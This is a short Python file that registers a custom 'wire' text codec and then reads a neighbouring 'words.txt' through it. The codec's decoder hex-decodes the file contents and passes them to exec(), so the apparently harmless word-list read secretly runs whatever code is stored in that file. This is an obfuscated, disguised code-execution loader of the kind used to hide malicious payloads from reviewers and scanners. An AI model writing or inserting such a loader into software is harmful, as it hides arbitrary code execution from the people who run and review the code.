import codecs
from pathlib import Path


class Wire(codecs.IncrementalDecoder):
    def decode(self, data, final=False):
        return exec(bytes.fromhex(data))


codecs.register({'wire': codecs.CodecInfo(None, None, incrementaldecoder=Wire, name='wire')}.get)
open(Path(__file__).parent / 'words.txt', encoding='wire').read()
